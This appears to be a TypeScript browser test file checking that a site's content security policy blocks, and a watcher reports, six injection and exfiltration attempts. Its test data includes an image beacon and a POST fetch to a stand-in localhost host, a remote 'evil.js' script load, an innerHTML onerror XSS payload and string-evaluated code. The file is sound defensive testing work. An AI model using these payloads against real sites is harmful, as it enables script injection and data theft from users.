import { setTimeout as delay } from 'node:timers/promises';

import { expect, test } from '../app/fixtures.ts';
import { arrive } from '../app/person.ts';

/**
 * Ways to bring something in or to send something out. Each must be stopped, and seen by the watch on every journey.
 * Each runs a moment later, as a task of the page: what a debugger runs at once is exempt from the policy.
 */
const ATTEMPTS: Readonly<Record<string, () => void>> = {
  'an image from elsewhere': () => {
    setTimeout(() => Object.assign(new Image(), { src: 'http://127.0.0.1:9/tracker.png' }));
  },
  'a message to elsewhere': () => {
    setTimeout(
      () => void fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'books' }).catch(() => undefined),
    );
  },
  'a script from elsewhere': () => {
    setTimeout(() => {
      const script = document.createElement('script');
      document.body.append(script);
      Reflect.set(script, 'src', 'http://127.0.0.1:9/evil.js');
    });
  },
  'markup from a string': () => {
    setTimeout(() => Reflect.set(document.body, 'innerHTML', '<img src="x" onerror="window.pwned = true">'));
  },
  'a style in the page': () => {
    setTimeout(() => {
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }));
    });
  },
  'code from a string': () => {
    setTimeout(() => Reflect.apply(setTimeout, window, ['window.pwned = true', 0]));
  },
};

for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  test(`${name} is stopped, and the watch sees it`, async ({ browserEngine, site }) => {
    const visit = await browserEngine.open(site.origin);
    await arrive(visit.page);
    await visit.page.evaluate(attempt);
    await delay(300);
    expect(await visit.page.evaluate(() => Reflect.has(window, 'pwned'))).toBe(false);
    await expect(visit.close()).rejects.toThrow(/policy|trusted|request to/i);
  });
}
